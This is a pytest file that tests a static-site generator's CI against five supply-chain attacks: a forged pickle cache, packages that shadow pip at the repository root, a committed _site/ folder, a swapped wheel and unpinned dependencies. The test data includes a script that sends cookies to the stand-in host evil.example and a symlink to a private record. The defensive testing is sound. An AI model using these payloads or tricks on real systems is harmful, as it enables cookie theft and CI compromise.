"""Issue 21's five ways around CI, each tried as a pull-request author would, in a temporary
repository, by replaying the workflows' own commands (tests/replay.py): refused, or no effect.

1. a forged parse cache committed in the records;  2. a folder at the root that Python would
import in place of pip;  3. a committed _site/ with a foreign page and a link to a private
record;  4. a committed wheel swapped for another;  5. dependencies that float.

Each attack also has its control: the same attack where the defence is taken away works, so
that a test that passes proves the defence, not a mistake in the attack.
"""
from __future__ import annotations

import base64
import datetime as dt
import hashlib
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from generator.authoring.bureau import Bureau, init_files
from generator.records import parsecache
from tests.records_tree import INSTITUTION, run_ssj, valid_tree, write_tree
from tests.replay import INSTALL, Runner
from tests.test_audit import commit, git

ROOT = Path(__file__).resolve().parent.parent
PINNED = "ssj @ git+https://example.invalid/ssj.git@0123456789abcdef0123456789abcdef01234567"
PHONE = re.search(r'^contact_phone: "(.*)"$', INSTITUTION, re.M).group(1)
JOBS = {"pull-request.yml": "check", "deploy.yml": "build"}


def bureau_files(requirement: str = PINNED) -> dict[str, bytes]:
    """A bureau's repository as `ssj init` writes it, with valid records in it."""
    files = init_files(Bureau("某某县司法局", "某某县司法局", "210000", requirement),
                       dt.date(2025, 1, 1))
    files = {name: data for name, data in files.items() if not name.startswith("records/")
             or name.startswith(("records/.schemas/", "records/README.md"))}
    return {**files, **{name: text.encode() for name, text in valid_tree().items()}}


@pytest.fixture
def bureau(tmp_path: Path) -> tuple[Path, str]:
    """A bureau repository with one commit, the one deployed last; and that commit."""
    repo = tmp_path / "repo"
    write_tree(repo, bureau_files())
    git(repo, "init", "-q")
    commit(repo)
    return repo, head(repo)


def head(repo: Path) -> str:
    return git(repo, "rev-parse", "HEAD").strip()


def runner(repo: Path, base: str, workflow: str, temp: Path, **env: str | None) -> Runner:
    """The job of `workflow` in `repo` as GitHub would run it for a pull request whose base, or
    a deploy whose last deployed revision, is `base`."""
    temp.mkdir(parents=True, exist_ok=True)
    return Runner(repo / ".github" / "workflows" / workflow, JOBS[workflow], repo, temp,
                  context={"github.event.pull_request.base.sha": base}, gh=f"echo {base}",
                  env=env)


def deploy(repo: Path, base: str, temp: Path, **env: str | None) -> str:
    """Replay the deploy job; the text of every page it would publish."""
    job = runner(repo, base, "deploy.yml", temp, **env)
    for step, done in job.run_job():
        assert done.returncode == 0, f"{step.get('name', step.get('uses'))}\n{done.stdout}{done.stderr}"
    pages = sorted(job.artifact.rglob("*.html"))
    assert len(pages) > 10, "the deploy published a site"
    return "".join(p.read_text(encoding="utf-8") for p in pages)


# --------------------------------------------------------------- 1. a committed parse cache


def forged_cache(repo: Path, monkeypatch: pytest.MonkeyPatch, where: Path) -> bytes:
    """A valid parse cache for the records of `repo` in which the institution file's unchanged
    bytes parse to a record whose public address is its private phone number."""
    monkeypatch.setenv("SSJ_CACHE", "1")
    monkeypatch.setenv("SSJ_CACHE_DIR", str(where))
    firm = next((repo / "records" / "institutions").glob("*.yaml"))
    original = firm.read_bytes()
    firm.write_text(re.sub(r"^address: .*$", f'address: "{PHONE}"', original.decode(), flags=re.M),
                    encoding="utf-8")
    assert run_ssj(repo, "check").exit_code == 0
    folder = parsecache.cache_folder(repo / "records")
    entries = parsecache._read(folder / "parsed.pickle")
    firm.write_bytes(original)
    honest = parsecache.ParseCache(folder).key("institution", firm.name, original)
    for key, entry in list(entries.items()):
        if entry[0] is not None and entry[0][1] == firm.stem:
            entries[honest] = entries.pop(key)
    body = parsecache._dump(entries)
    return parsecache._MAGIC + hashlib.sha256(body).digest() + body


def test_a_committed_parse_cache_changes_nothing_ci_checks_or_publishes(
        bureau: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo, base = bureau
    forged = forged_cache(repo, monkeypatch, tmp_path / "author-cache")
    # control: where ssj does read its cache, the forgery publishes the phone number
    reader = tmp_path / "reader-cache"
    monkeypatch.setenv("SSJ_CACHE_DIR", str(reader))
    own = parsecache.cache_folder(repo / "records")
    own.mkdir(parents=True)
    (own / "parsed.pickle").write_bytes(forged)
    assert PHONE in deploy(repo, base, tmp_path / "control", SSJ_CACHE="1",
                           SSJ_CACHE_DIR=str(reader))
    # the attack: the same bytes committed where ssj kept its cache before, and anywhere in the
    # repository a cache might be looked for
    for name in ("records/.ssj-cache/parsed.pickle", ".ssj-cache/parsed.pickle",
                 ".cache/ssj/parsed.pickle"):
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_bytes(forged)
    git(repo, "add", "-f", "records/.ssj-cache", ".ssj-cache", ".cache")
    commit(repo)
    check = runner(repo, base, "pull-request.yml", tmp_path / "pr")
    check.stand_in_for_install()
    done = check.run(check.step("ssj check"))
    assert done.returncode == 0, done.stdout + done.stderr
    assert PHONE not in deploy(repo, base, tmp_path / "ci")
    # and with caching turned on in CI, the cache is the runner's, never the checkout's
    assert PHONE not in deploy(repo, base, tmp_path / "cached", SSJ_CACHE="1")


# ------------------------------------------------------- 2. code from the repository's root

SHADOW = '''import os, pathlib
pathlib.Path(os.environ["RUNNER_TEMP"], "ran-{name}").write_text("x")
'''
SHADOWED = ("pip", "venv", "ensurepip", "yaml", "click", "jinja2", "platformdirs", "pytest")


def shadow_packages(repo: Path) -> None:
    """Commit a package at the root for each module CI's Python might import, each of which
    leaves a mark in RUNNER_TEMP when it runs."""
    for name in SHADOWED:
        for module in ("__init__.py", "__main__.py"):
            write_tree(repo, {f"{name}/{module}": SHADOW.format(name=name)})
    commit(repo)


def marks(temp: Path) -> list[str]:
    return sorted(p.name for p in temp.glob("ran-*"))


def offline_install(job: Runner) -> subprocess.CompletedProcess[str]:
    """The install step's own script, offline: it fails where it would fetch a package."""
    return job.run(job.step(INSTALL))


@pytest.fixture
def project(tmp_path: Path) -> tuple[Path, str]:
    """This project's CI files in a repository of their own."""
    repo = tmp_path / "project"
    for name in (".github", "requirements", "pyproject.toml"):
        if (ROOT / name).is_dir():
            shutil.copytree(ROOT / name, repo / name)
        else:
            repo.mkdir(parents=True, exist_ok=True)
            shutil.copy(ROOT / name, repo / name)
    git(repo, "init", "-q")
    commit(repo)
    return repo, head(repo)


@pytest.mark.parametrize("workflow", list(JOBS))
@pytest.mark.parametrize("which", ["project", "bureau"])
def test_the_install_step_runs_nothing_from_the_checkout_and_nothing_unlocked(
        which: str, workflow: str, tmp_path: Path, request: pytest.FixtureRequest) -> None:
    """Attacks 2 and 5 on one replay of the install step (a virtual environment is slow to
    make): packages committed at the root must not run, and a release on the index that the
    lock does not name must not be installed."""
    repo, base = request.getfixturevalue(which)
    # offline, only the index's nh3 can be had: the lock keeps its own entry for nh3 alone, so
    # that pip gets as far as choosing among nh3's releases
    entry = re.search(r"^nh3==.*?(?=^\S)", (ROOT / "requirements" / "deploy.txt").read_text(
        encoding="utf-8"), re.M | re.S).group(0)
    for lock in ("requirements.lock", "requirements/deploy.txt", "requirements/test.txt"):
        if (repo / lock).exists():
            (repo / lock).write_text(entry, encoding="utf-8")
    shadow_packages(repo)
    index = tmp_path / "index"
    make_wheel(index, "nh3", "99.0.0", {"nh3.py": "RELEASED_TODAY = True\n"})
    job = runner(repo, base, workflow, tmp_path / "ci", PIP_FIND_LINKS=str(index))
    done = offline_install(job)
    assert done.returncode != 0, done.stdout
    assert re.search(r"requirement nh3==[\d.]+ \(from versions: 99\.0\.0\)", done.stderr), done.stderr
    assert not any(name.startswith("nh3") for name in installed(job.temp))
    assert marks(job.temp) == []
    if which == "bureau":  # ssj's own steps, with ssj installed
        shutil.rmtree(job.temp / "venv")
        job.stand_in_for_install()
        for step in job.steps:
            if "venv/bin/ssj" in step.get("run", ""):
                ran = job.run(step)
                assert ran.returncode == 0, ran.stdout + ran.stderr
        assert marks(job.temp) == []


def test_without_safe_path_the_folder_would_run(project: tuple[Path, str],
                                                tmp_path: Path) -> None:
    """The control: the same install step without -P and PYTHONSAFEPATH runs the committed
    folder in place of venv, before anything is installed."""
    repo, base = project
    shadow_packages(repo)
    job = runner(repo, base, "deploy.yml", tmp_path / "ci", PYTHONSAFEPATH=None)
    step = job.step(INSTALL)
    job.run(step, step["run"].replace(" -P ", " "))
    assert "ran-venv" in marks(job.temp)


# ------------------------------------------------------------------ 3. a committed _site/


def test_a_committed_site_folder_is_never_published(bureau: tuple[Path, str],
                                                    tmp_path: Path) -> None:
    repo, base = bureau
    firm = next((repo / "records" / "institutions").glob("*.yaml"))
    write_tree(repo, {"_site/evil.html": "<script>fetch('https://evil.example/'+document.cookie)"
                                         "</script><p>外来页面</p>",
                      "_site/.ssj-site": '{"files": ["index.html"]}\n'})
    (repo / "_site" / "leak.yaml").symlink_to(Path("..") / "records" / "institutions" / firm.name)
    git(repo, "add", "-f", "_site")
    commit(repo)
    published = deploy(repo, base, tmp_path / "ci")
    job_artifact = tmp_path / "ci" / "artifact"
    assert not (job_artifact / "evil.html").exists() and "外来页面" not in published
    assert not (job_artifact / "leak.yaml").exists() and PHONE not in published
    # and built where it was committed, ssj refuses: nothing written, one line why
    before = sorted(p.name for p in (repo / "_site").iterdir())
    refused = run_ssj(repo, "build", "--out", "_site")
    assert refused.exit_code == 2
    assert re.fullmatch(r"ssj: --out _site：\S+ 是符号链接，生成的网站会连它一起发布；"
                        r"请换一个输出目录（CI 写入运行器的临时目录）；未写入任何文件\n",
                        refused.output), refused.output
    (repo / "_site" / "leak.yaml").unlink()
    refused = run_ssj(repo, "build", "--out", "_site")
    assert refused.exit_code == 2 and "_site 中有 git 跟踪的文件（如 _site/" in refused.output
    assert sorted(p.name for p in (repo / "_site").iterdir()) == sorted(
        set(before) - {"leak.yaml"})


def test_an_untracked_output_folder_with_a_link_is_refused(bureau: tuple[Path, str]) -> None:
    repo, _ = bureau
    out = repo / "elsewhere"
    out.mkdir()
    (out / "private").symlink_to(repo / "records")
    refused = run_ssj(repo, "build", "--out", "elsewhere")
    assert refused.exit_code == 2 and "是符号链接" in refused.output
    assert [p.name for p in out.iterdir()] == ["private"]
    (out / "private").unlink()
    built = run_ssj(repo, "build", "--out", "elsewhere")
    assert built.exit_code == 0, built.output


# -------------------------------------------------------------------- 4. a swapped wheel


def make_wheel(folder: Path, name: str, version: str, modules: dict[str, str]) -> Path:
    """A pure-Python wheel of `modules` (file name -> source), as a build backend writes one."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}-{version}-py3-none-any.whl"
    info = f"{name}-{version}.dist-info"
    files = {**modules,
             f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
             f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
                              "Tag: py3-none-any\n"}
    record = "".join(
        f"{n},sha256={base64.urlsafe_b64encode(hashlib.sha256(t.encode()).digest()).rstrip(b'=').decode()},{len(t.encode())}\n"
        for n, t in files.items()) + f"{info}/RECORD,,\n"
    with zipfile.ZipFile(path, "w") as wheel:
        for n, text in {**files, f"{info}/RECORD": record}.items():
            wheel.writestr(zipfile.ZipInfo(n, (2025, 1, 1, 0, 0, 0)), text)
    return path


def installed(temp: Path) -> set[str]:
    return {p.name for p in (temp / "venv").glob("lib/python*/site-packages/*")}


def wheel_bureau(tmp_path: Path, requirement: str) -> Path:
    """A bureau whose CI installs ssj from the wheel committed at wheels/, with a lock of no
    packages (so that the install step runs offline)."""
    repo = tmp_path / "repo"
    files = bureau_files(requirement)
    files["requirements.lock"] = b"# no dependencies: this test installs offline\n"
    write_tree(repo, files)
    git(repo, "init", "-q")
    make_wheel(repo / "wheels", "ssj", "0.1.0", {"ssj_honest.py": "HONEST = True\n"})
    commit(repo)
    return repo


def test_a_swapped_wheel_is_not_installed(tmp_path: Path) -> None:
    # the bureau's two workflows install with the same commands: the deploy's stand for both
    workflow = "deploy.yml"
    honest = make_wheel(tmp_path / "built", "ssj", "0.1.0", {"ssj_honest.py": "HONEST = True\n"})
    digest = hashlib.sha256(honest.read_bytes()).hexdigest()
    repo = wheel_bureau(tmp_path, f"wheels/{honest.name} --hash=sha256:{digest}")
    base = head(repo)
    job = runner(repo, base, workflow, tmp_path / "honest")
    done = offline_install(job)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "ssj_honest.py" in installed(job.temp)
    # the attack: the pull request swaps the committed wheel's bytes
    make_wheel(repo / "wheels", "ssj", "0.1.0", {"ssj_honest.py": "HONEST = True\n",
                                                  "ssj_swapped.py": "SWAPPED = True\n"})
    commit(repo)
    job = runner(repo, base, workflow, tmp_path / "swapped")
    done = offline_install(job)
    assert done.returncode != 0 and "DO NOT MATCH THE HASHES" in done.stderr, done.stderr
    assert not {"ssj_honest.py", "ssj_swapped.py"} & installed(job.temp)


def test_without_its_hash_a_swapped_wheel_would_be_installed(tmp_path: Path) -> None:
    """The control: the wheel line as it was before, with no hash."""
    repo = wheel_bureau(tmp_path, f"wheels/ssj-0.1.0-py3-none-any.whl --hash=sha256:{'0' * 64}")
    write_tree(repo, {"requirements.txt": "wheels/ssj-0.1.0-py3-none-any.whl\n"})
    make_wheel(repo / "wheels", "ssj", "0.1.0", {"ssj_swapped.py": "SWAPPED = True\n"})
    commit(repo)
    job = runner(repo, head(repo), "deploy.yml", tmp_path / "ci")
    assert offline_install(job).returncode == 0
    assert "ssj_swapped.py" in installed(job.temp)


def owners(codeowners: str, path: str) -> str:
    """Who owns `path` by GitHub's reading of CODEOWNERS: the last line whose pattern matches."""
    found = ""
    for line in codeowners.splitlines():
        if not line or line.startswith("#"):
            continue
        pattern, who = line.split(" ", 1)
        anchored = pattern.startswith("/") or "/" in pattern.rstrip("/")
        regex = re.escape(pattern.strip("/")).replace(r"\*", "[^/]*")
        regex = (("^" if anchored else "(^|.*/)") + regex
                 + ("/.*$" if pattern.endswith("/") else "(/.*)?$"))
        if pattern == "*" or re.match(regex, path):
            found = who
    return found


def test_codeowners_cover_every_file_an_attack_adds() -> None:
    text = init_files(Bureau("某某县司法局", "某某县司法局", "210000", PINNED, ("@sfj/reviewers",)),
                      dt.date(2025, 1, 1))["CODEOWNERS"].decode()
    lines = [line.split(" ", 1)[0] for line in text.splitlines() if line and line[0] != "#"]
    assert lines[0] == "*", "a default owner for everything, first, so later lines refine it"
    for explicit in ("/.github/", "/requirements.txt", "/requirements.lock", "*.whl",
                     "/records/.schemas/", "/records/jurisdiction.yaml", "/site/templates/",
                     "/site/static/", "/_site/", "/CODEOWNERS"):
        assert explicit in lines
    for path in ("records/.ssj-cache/parsed.pickle", "pip/__init__.py", "_site/evil.html",
                 "wheels/ssj-0.1.0-py3-none-any.whl", "deep/down/ssj-1.0-py3-none-any.whl",
                 "requirements.lock", ".github/workflows/deploy.yml", "records/plans/x.yaml"):
        assert owners(text, path) == "@sfj/reviewers", path


# ------------------------------------------------------------- 5. dependencies that float
# (the replay is test_the_install_step_runs_nothing_from_the_checkout_and_nothing_unlocked)


def test_a_floating_requirement_would_install_it(tmp_path: Path) -> None:
    """The control: ssj's own range for the package, as CI installed it before the lock."""
    index = tmp_path / "index"
    make_wheel(index, "nh3", "99.0.0", {"nh3.py": "RELEASED_TODAY = True\n"})
    floating = next(line for line in (ROOT / "requirements" / "runtime.in").read_text(
        encoding="utf-8").splitlines() if line.startswith("nh3"))
    subprocess.run(["python3", "-P", "-m", "venv", str(tmp_path / "venv")], check=True)
    done = subprocess.run([str(tmp_path / "venv" / "bin" / "python"), "-P", "-m", "pip", "install",
                           "--no-index", "--find-links", str(index), floating],
                          capture_output=True, text=True, env={"PATH": "/usr/bin:/bin",
                                                               "PIP_CONFIG_FILE": "/dev/null"})
    assert done.returncode == 0, done.stderr
    assert "nh3-99.0.0.dist-info" in installed(tmp_path)
